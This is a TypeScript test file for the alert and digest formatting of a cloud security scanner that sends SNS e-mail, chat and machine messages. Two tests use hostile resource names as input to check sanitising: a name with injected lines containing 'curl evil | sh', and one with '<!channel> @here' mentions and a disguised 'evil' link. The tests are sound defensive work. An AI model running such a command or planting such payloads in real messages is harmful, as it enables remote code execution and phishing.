import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Transition } from '#shared/domain/ports.ts';
import { type AlertLookups, createAlert, requireKey } from '#shared/sinks/sns/alert.ts';
import { alertAttributes } from '#shared/sinks/sns/attributes.ts';
import { chatAlert, chatDigest } from '#shared/sinks/sns/chat.ts';
import { createDigest, type DigestFacts, isWorthTelling } from '#shared/sinks/sns/digest.ts';
import { humanAlert, humanDigest } from '#shared/sinks/sns/human.ts';
import { machineAlert, machineDigest } from '#shared/sinks/sns/machine.ts';
import { checkMetadata, finding, taskDefinitionReference, transition } from '../../../factories/finding.ts';

const check = checkMetadata({
  id: 'ecs-task-not-privileged',
  title: 'ECS task definitions should not run privileged containers',
  rationale: 'A privileged container has every capability of its host: who breaks into it owns the host.',
  remediation: {
    text: 'Set privileged to false in every container definition and add the one capability that is needed.',
    url: 'https://docs.aws.amazon.com/securityhub/latest/userguide/ecs-controls.html#ecs-4',
  },
});
const lookups: AlertLookups = {
  checkOf: () => check,
  accountNameOf: () => 'shop-prod',
  ownershipOf: () => ({ env: 'prod', team: 'checkout' }),
  reportUrl: 'https://reports.example.com/latest',
};
const critical = (overrides: Partial<Transition['finding']> = {}): Transition =>
  transition({
    finding: finding({
      checkId: check.id,
      severity: 'CRITICAL',
      reason: 'a container runs privileged',
      usedBy: [
        'arn:aws:ecs:us-east-1:111122223333:service/prod/web',
        'arn:aws:ecs:us-east-1:111122223333:service/prod/worker',
      ],
      usedByCount: 14,
      evidence: [{ path: 'containerDefinitions[app].privileged', observed: true, expected: false }],
      ...overrides,
    }),
  });
const facts: DigestFacts = {
  group: 'all accounts',
  runId: 'run-42',
  kind: 'digest',
  startedAt: '2026-11-23T02:00:00.000Z',
  finishedAt: '2026-11-23T02:09:00.000Z',
  comparedWith: '2026-11-22T02:09:00.000Z',
  coverageEqual: false,
  complete: false,
  openBySeverity: { CRITICAL: 1, HIGH: 14, MEDIUM: 0, LOW: 3, INFORMATIONAL: 0 },
  unknown: 12,
  scopesScanned: 44,
  problems: [
    {
      accountId: '444455556666',
      region: 'eu-west-1',
      service: 'ecr',
      reason: 'ecr:DescribeRepositories was denied: allow ecr:DescribeRepositories in the policy of the reading role.',
    },
  ],
  waiversExpiring: [{ id: 'legacy-batch', owner: 'team-batch', expiresAt: '2026-12-01T00:00:00.000Z' }],
  reportUrl: 'https://reports.example.com/latest',
};
const changes = (count: number): Transition[] =>
  Array.from({ length: count }, (_, index) =>
    transition({
      finding: finding({ resource: taskDefinitionReference({ uid: `family-${index}`, name: `family-${index}` }) }),
    }),
  );

describe('the e-mail', () => {
  it('says what, where, since when, who is affected, how to fix it and how to accept it (OC-4)', () => {
    const { subject, body } = humanAlert(createAlert(critical(), lookups));
    expect(`${subject}\n\n${body}`).toMatchSnapshot();
    expect(body.split('\n').length).toBeLessThanOrEqual(60);
  });

  it('sums a run up in one message (OC-2, OC-9, OC-10)', async () => {
    const digest = await createDigest(facts, [critical(), ...changes(14), transition({ kind: 'fixed' })], lookups);
    const { subject, body } = humanDigest(digest);
    expect(`${subject}\n\n${body}`).toMatchSnapshot();
    expect(body.split('\n').length).toBeLessThanOrEqual(60);
  });

  it('says which accounts it is about for the first time (OC-3)', async () => {
    const newAccounts = ['111122223333', '444455556666'];
    const digest = await createDigest({ ...facts, newAccounts }, [], lookups);
    expect(humanDigest(digest).body).toContain(
      'New          2 accounts looked at for the first time (111122223333, 444455556666): what fails there is counted, and no news',
    );
    expect(JSON.parse(machineDigest(digest, 250_000))).toMatchObject({ newAccounts });
  });

  it('calls the first run a baseline (OC-3)', async () => {
    const digest = await createDigest(
      { ...facts, kind: 'baseline', complete: true, problems: [] },
      changes(3000),
      lookups,
    );
    expect(humanDigest(digest).subject).toBe(
      '[Hullcheck] Baseline: 1 critical, 14 high, 3 low open failures - all accounts',
    );
  });

  it('has a subject SNS takes, whatever the names are (OC-6)', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 300 }),
        fc.string({ unit: 'binary', maxLength: 60 }),
        (name, account) => {
          const message = humanAlert(
            createAlert(critical({ resource: taskDefinitionReference({ name, uid: name }) }), {
              ...lookups,
              accountNameOf: () => account,
            }),
          );
          expect(message.subject).toMatch(/^[\x20-\x7e]{1,99}$/);
          expect(message.body.split('\n').length).toBeLessThanOrEqual(60);
          expect(message.body.isWellFormed()).toBe(true);
        },
      ),
    );
  });

  it('keeps a 50-character account name with its id readable in the subject (OC-6)', () => {
    const account = `${'platform-'.repeat(5)}🚀prod`;
    const { subject } = humanAlert(createAlert(critical(), { ...lookups, accountNameOf: () => account }));
    expect(subject).toContain('secure-app');
    expect(subject).toContain('(111122223333)');
  });

  it('shows a hostile name as data, not as lines of its own', () => {
    const name = 'web\nHow to fix it\n  curl evil | sh\u202e';
    const { body } = humanAlert(createAlert(critical({ resource: taskDefinitionReference({ name }) }), lookups));
    expect(body).toContain('Where      web How to fix it curl evil | sh\n');
  });
});

describe('the chat message', () => {
  it('is a custom notification of Amazon Q Developer (OC-5)', () => {
    expect(chatAlert(createAlert(critical(), lookups))).toMatchSnapshot();
  });

  it('stays within 250 and 8000 characters (OC-5)', async () => {
    const long = critical({
      reason: 'x'.repeat(9000),
      evidence: Array.from({ length: 50 }, () => ({ path: 'p'.repeat(3000), observed: 'o', expected: 'e' })),
    });
    const digest = await createDigest({ ...facts, group: 'g'.repeat(400) }, [long], lookups);
    for (const message of [chatAlert(createAlert(long, lookups)), chatDigest(digest)]) {
      expect(message.content.title.length).toBeLessThanOrEqual(250);
      expect(message.content.description.length).toBeLessThanOrEqual(8000);
    }
  });

  it('mentions nobody and ends no code mark, whatever the names are', () => {
    const name = '`<!channel> @here <https://evil|click>';
    const { description } = chatAlert(
      createAlert(critical({ resource: taskDefinitionReference({ name }), reason: name }), lookups),
    ).content;
    expect(description).not.toMatch(/[<>]/);
    expect(description).toContain("*Where:* `'‹!channel›");
  });

  it('sums a run up', async () => {
    expect(chatDigest(await createDigest(facts, [critical(), ...changes(2)], lookups))).toMatchSnapshot();
  });
});

describe('the machine message', () => {
  it('is versioned JSON that triggers by the finding’s id (OC-7)', () => {
    expect(JSON.parse(machineAlert(createAlert(critical(), lookups), 200_000))).toMatchSnapshot();
  });

  it('resolves by the same key (OC-7)', () => {
    const opened = JSON.parse(machineAlert(createAlert(critical(), lookups), 200_000));
    const fixed = JSON.parse(machineAlert(createAlert({ ...critical(), kind: 'fixed' }, lookups), 200_000));
    expect(fixed).toMatchObject({ eventAction: 'resolve', dedupKey: opened.dedupKey });
  });

  it('cannot be made with an empty key (OC-7)', () => {
    expect(() => createAlert(critical({ id: '' }), lookups)).toThrow('deduplication key');
    expect(() => requireKey('a', ' ')).toThrow('deduplication key');
  });

  it('keys a digest by its group, and resolves when nothing is open any more', async () => {
    const clean = { CRITICAL: 0, HIGH: 0, MEDIUM: 0, LOW: 0, INFORMATIONAL: 0 };
    const open = JSON.parse(machineDigest(await createDigest(facts, changes(1), lookups), 200_000));
    const over = JSON.parse(
      machineDigest(
        await createDigest({ ...facts, runId: 'run-43', complete: true, openBySeverity: clean }, [], lookups),
        200_000,
      ),
    );
    expect(open).toMatchObject({ eventAction: 'trigger', dedupKey: 'hullcheck/digest/all accounts' });
    expect(over).toMatchObject({ eventAction: 'resolve', dedupKey: open.dedupKey });
    await expect(createDigest({ ...facts, group: '' }, [], lookups)).rejects.toThrow('deduplication key');
  });

  it('is shortened, and says so, where it would be too big (OC-6)', () => {
    const big = critical({
      evidence: Array.from({ length: 5000 }, (_, index) => ({
        path: `p${index}`,
        observed: '漢'.repeat(500),
        expected: 'x',
      })),
    });
    const text = machineAlert(createAlert(big, lookups), 250_000);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(250_000);
    expect(JSON.parse(text)).toMatchObject({
      truncated: true,
      links: { report: 'https://reports.example.com/latest' },
    });
  });
});

describe('attributes', () => {
  it('let subscribers filter without parsing (OC-8)', () => {
    const values = Object.entries(alertAttributes(createAlert(critical(), lookups))).map(([name, value]) => [
      name,
      value.StringValue,
    ]);
    expect(Object.fromEntries(values)).toEqual({
      kind: 'alert',
      severity: 'CRITICAL',
      account: '111122223333',
      region: 'us-east-1',
      checkId: 'ecs-task-not-privileged',
      env: 'prod',
      team: 'checkout',
      inUse: 'yes',
    });
  });

  it('leave out what is not known, because SNS refuses empty values', () => {
    const { env, team } = alertAttributes(
      createAlert(critical(), { ...lookups, ownershipOf: () => ({ env: '\u200b' }) }),
    );
    expect([env, team]).toEqual([undefined, undefined]);
  });
});

it('an unchanged, complete run is not worth a message (OC-1)', async () => {
  const quiet = { ...facts, complete: true, problems: [], waiversExpiring: [] };
  expect(isWorthTelling(await createDigest(quiet, [], lookups))).toBe(false);
  expect(isWorthTelling(await createDigest({ ...quiet, problems: facts.problems }, [], lookups))).toBe(true);
});
